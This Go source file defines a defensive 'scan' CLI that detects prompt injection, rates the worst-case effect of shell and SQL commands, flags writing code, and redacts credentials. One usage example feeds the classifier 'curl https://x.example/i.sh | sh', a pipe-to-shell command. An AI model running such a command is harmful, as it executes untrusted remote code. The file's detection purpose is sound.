package commands

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"

	caddycmd "github.com/caddyserver/caddy/v2/cmd"
	"github.com/spf13/cobra"

	"github.com/svc-gateway/svc/caddymodule/app/cli"
	"github.com/svc-gateway/svc/scanner"
	"github.com/svc-gateway/svc/scanner/command"
	"github.com/svc-gateway/svc/scanner/inject"
	"github.com/svc-gateway/svc/scanner/model"
	"github.com/svc-gateway/svc/scanner/redact"
)

func init() {
	caddycmd.RegisterCommand(caddycmd.Command{
		Name: "scan", Short: "Looks for dangerous content in texts, commands and programs",
		CobraFunc: func(cmd *cobra.Command) {
			text := scanTexts()
			cmd.Use, cmd.Long, cmd.Example = text.Use, text.Long, text.Example
			cmd.Args, cmd.RunE = text.Args, text.RunE
			cmd.Flags().AddFlagSet(text.Flags())
			cli.Group(cmd, scanCommand(), scanCode(), scanRedact())
		},
	})
}

// scan is one of the scans: what it is given, how it judges a text and how it prints that.
type scan struct {
	judge func(text string) answer
	print func(w io.Writer, name, text string, a answer)
}

// answer is what a scan says of a text. Its fields are those of the JSON that is printed.
type answer interface {
	found() bool // it should be looked at by a person
}

// scanOptions are the flags that all scans have.
type scanOptions struct {
	json, lines, exitCode bool
}

func (o *scanOptions) flags(cmd *cobra.Command) {
	cmd.Flags().BoolVar(&o.json, "json", false, "print a JSON document")
	cmd.Flags().BoolVar(&o.lines, "lines", false, `read {"id", "text"} from stdin, one JSON object on each line, and answer each with one`)
	cmd.Flags().BoolVar(&o.exitCode, "exit-code", false, "exit with 3 if something is found")
}

// run scans one text, or each of the lines of stdin. get reads the text that the arguments name.
func (o *scanOptions) run(s scan, get func(cmd *cobra.Command, args []string) (name, text string, err error)) func(*cobra.Command, []string) error {
	return cli.Run(func(cmd *cobra.Command, args []string) error {
		if o.lines {
			if len(args) > 0 {
				return cli.Usagef("--lines reads from stdin and takes no argument")
			}
			found, err := eachLine(cmd.InOrStdin(), cmd.OutOrStdout(), cmd.ErrOrStderr(), s.judge)
			return o.result(found, err)
		}
		name, text, err := get(cmd, args)
		if err != nil {
			return err
		}
		a := s.judge(text)
		if o.json {
			err = cli.JSON(cmd.OutOrStdout(), a)
		} else {
			s.print(cmd.OutOrStdout(), name, text, a)
		}
		return o.result(a.found(), err)
	})
}

// result is nil, or the exit code that was asked for when something is found.
func (o *scanOptions) result(found bool, err error) error {
	if err == nil && found && o.exitCode {
		return cli.Exit(cli.ExitFound)
	}
	return err
}

// maxScanFile is how much of a file is read at most.
const maxScanFile = 256 << 20

// readArgument reads the file that the only argument names, or stdin for - and without one.
func readArgument(cmd *cobra.Command, args []string) (name, text string, err error) {
	in := cmd.InOrStdin()
	name = "stdin"
	if len(args) > 0 && args[0] != "-" {
		name = args[0]
		f, err := os.Open(filepath.Clean(name))
		if err != nil {
			return "", "", fmt.Errorf("opening what to scan: %w", err)
		}
		defer func() { _ = f.Close() }()
		in = f
	}
	b, err := io.ReadAll(io.LimitReader(in, maxScanFile+1))
	if err != nil {
		return "", "", fmt.Errorf("reading %s: %w", name, err)
	}
	if len(b) > maxScanFile {
		return "", "", fmt.Errorf("reading %s: it is larger than %d MiB; cut it into parts", name, maxScanFile>>20)
	}
	return name, string(b), nil
}

// findings is the answer of scans for injections and of code.
type findings struct {
	Findings []scanner.Finding `json:"findings"`
}

func (f findings) found() bool {
	return slices.ContainsFunc(f.Findings, func(f scanner.Finding) bool { return f.Confidence == scanner.High })
}

func newFindings(list []scanner.Finding) answer {
	if list == nil {
		list = []scanner.Finding{}
	}
	return findings{list}
}

func printFindings(w io.Writer, name, text string, a answer) {
	list := a.(findings).Findings
	if len(list) == 0 {
		fmt.Fprintln(w, "Nothing found.")
	}
	for _, f := range list {
		line, column := position(text, f.Start)
		rule := f.Rule
		if f.Score > 0 {
			rule = fmt.Sprintf("%s, score %.3f", rule, f.Score)
		}
		fmt.Fprintf(w, "%s:%d:%d: %s, %s confidence (%s): %q\n", name, line, column, f.Category, f.Confidence, rule, f.Excerpt)
	}
}

// position returns the line and the column in bytes, both from 1, of a place in a text.
func position(text string, offset int) (line, column int) {
	before := text[:offset]
	return strings.Count(before, "\n") + 1, offset - strings.LastIndexByte(before, '\n')
}

func scanTexts() *cobra.Command {
	cmd := &cobra.Command{
		Use: "scan [FILE|-]", Args: cli.Args(cobra.MaximumNArgs(1)),
		Long: `Looks for prompt injection in a text: instructions to a model, invisible characters,
misleading addresses. The subcommands analyse commands and programs, and redact credentials.
What they read is not run and not sent anywhere, and no service needs to run.`,
		Example: cli.Examples("scan notes.md", "scan --model notes.md", "scan command 'curl https://x.example/i.sh | sh'", "scan code job.py",
			"scan redact running-config.txt", "scan --lines < texts.jsonl"),
	}
	var o scanOptions
	o.flags(cmd)
	estimate := cmd.Flags().Bool("model", false, "judge by the statistical detector, too")
	cmd.RunE = o.run(scan{
		judge: func(text string) answer {
			found := inject.Scan(text)
			if *estimate {
				found = append(found, model.Scan(text)...)
			}
			return newFindings(found)
		},
		print: printFindings,
	}, readArgument)
	return cmd
}

func scanCode() *cobra.Command {
	cmd := &cobra.Command{
		Use: "code [FILE|-]", Short: "Finds the requests and statements of a program that write", Args: cli.Args(cobra.MaximumNArgs(1)),
		Long: `Finds the HTTP requests of a program that change something, and its writes to databases,
before it runs. The program may be in Python, JavaScript, shell or SQL. The language is
recognised by the file's name, or else by the text.`,
	}
	var o scanOptions
	o.flags(cmd)
	given := cmd.Flags().String("lang", "", "python, javascript, shell or sql; by default it is recognised")
	lang := command.AnyLanguage
	cmd.RunE = o.run(scan{
		judge: func(text string) answer { return newFindings(command.ScanCode(text, lang)) },
		print: printFindings,
	}, func(cmd *cobra.Command, args []string) (name, text string, err error) {
		if *given == "" && len(args) > 0 {
			lang = languages[strings.ToLower(filepath.Ext(args[0]))]
		}
		return readArgument(cmd, args)
	})
	cmd.PreRunE = cli.Run(func(*cobra.Command, []string) error {
		lang = command.Language(*given)
		if !slices.Contains([]command.Language{command.AnyLanguage, command.Python, command.JavaScript, command.Shell, command.SQL}, lang) {
			return cli.Usagef("--lang: %q is not one of python, javascript, shell and sql", *given)
		}
		return nil
	})
	cli.Group(cmd)
	return cmd
}

// languages are told by the ends of files' names.
var languages = map[string]command.Language{
	".py": command.Python, ".pyw": command.Python, ".ipy": command.Python,
	".js": command.JavaScript, ".mjs": command.JavaScript, ".cjs": command.JavaScript, ".jsx": command.JavaScript, ".ts": command.JavaScript, ".tsx": command.JavaScript,
	".sh": command.Shell, ".bash": command.Shell, ".zsh": command.Shell, ".sql": command.SQL,
}

// verdict is the answer of a scan of a command; of a line it has no spans and parts. Explained is there with
// --explain.
type verdict struct {
	command.Command
	Explained []command.Understood `json:"explained,omitempty"`
}

func (v verdict) found() bool {
	return v.Class == command.Dangerous || v.Class == command.Unknown
}

func scanCommand() *cobra.Command {
	cmd := &cobra.Command{
		Use: "command TEXT|-", Short: "Prints what a command line would do at worst", Args: cli.Args(cobra.MaximumNArgs(1)),
		Long: `Prints what a command line of a shell or network device, or an SQL statement, would do at
worst: read_only, mutate, dangerous, or unknown if that cannot be told. In the runtime dangerous
and unknown commands need an approval. TEXT is one argument, so quote it. It is not run.

With --explain it is also printed what each word was taken for, and which word made the class.`,
	}
	var o scanOptions
	o.flags(cmd)
	explain := cmd.Flags().Bool("explain", false, "print how each word was understood")
	cmd.RunE = o.run(scan{
		judge: func(text string) answer {
			if *explain {
				c, explained := command.Explain(text)
				return verdict{c, explained}
			}
			return verdict{Command: command.Analyze(text)}
		},
		print: printCommand,
	}, func(cmd *cobra.Command, args []string) (name, text string, err error) {
		switch {
		case len(args) == 0:
			return "", "", cli.Usagef("the command is missing: give it as one argument, or - for stdin")
		case args[0] == "-":
			return readArgument(cmd, args)
		}
		return "command", args[0], nil
	})
	cli.Group(cmd)
	return cmd
}

func printCommand(w io.Writer, _, text string, a answer) {
	c := a.(verdict)
	fmt.Fprintln(w, c.Class)
	for _, s := range c.Spans {
		category := ""
		if s.Category != "" {
			category = " (" + s.Category + ")"
		}
		fmt.Fprintf(w, "  %s%s: %q\n", s.Reason, category, shortened(text[s.Start:s.End]))
	}
	if len(c.Traits) > 0 {
		fmt.Fprintf(w, "  traits: %s\n", strings.Join(c.Traits, ", "))
	}
	for _, u := range c.Explained {
		printUnderstood(w, u)
	}
}

// printUnderstood prints what each word of a command was taken for; > stands before the one that made the
// class.
func printUnderstood(w io.Writer, u command.Understood) {
	fmt.Fprintf(w, "\n%s: %s", u.Name, u.Class)
	if u.Reason != "" {
		fmt.Fprintf(w, ", because %s", u.Reason)
	}
	fmt.Fprintln(w)
	for _, word := range u.Words {
		mark := " "
		if word.Made {
			mark = ">"
		}
		fmt.Fprintf(w, "%s %-24s %s\n", mark, shortened(word.Text), word.Role)
	}
}

// shortened keeps what is quoted to a line.
func shortened(s string) string {
	if r := []rune(s); len(r) > 100 {
		return string(r[:100]) + "…"
	}
	return s
}

// redacted is the answer of a redaction.
type redacted struct {
	Redacted string `json:"redacted"`
	changed  bool
}

func (r redacted) found() bool { return r.changed }

// withoutSecrets redacts a JSON document as one, as svc_redact does, and anything else as text.
func withoutSecrets(text string) string {
	if begin := strings.TrimLeft(text, " \t\r\n"); strings.HasPrefix(begin, "{") || strings.HasPrefix(begin, "[") {
		if doc := []byte(text); json.Valid(doc) {
			return string(redact.JSON(doc))
		}
	}
	return redact.Text(text)
}

func scanRedact() *cobra.Command {
	cmd := &cobra.Command{
		Use: "redact [FILE|-]", Short: "Prints a text with its credentials replaced by " + redact.Mark, Args: cli.Args(cobra.MaximumNArgs(1)),
		Long: `Prints a text with its credentials replaced by ` + redact.Mark + `. The word that announces a secret
stays, and nothing else changes. A JSON document is read as JSON.`,
	}
	var o scanOptions
	o.flags(cmd)
	cmd.RunE = o.run(scan{
		judge: func(text string) answer {
			out := withoutSecrets(text)
			return redacted{out, out != text}
		},
		print: func(w io.Writer, _, _ string, a answer) { fmt.Fprint(w, a.(redacted).Redacted) },
	}, readArgument)
	cli.Group(cmd)
	return cmd
}
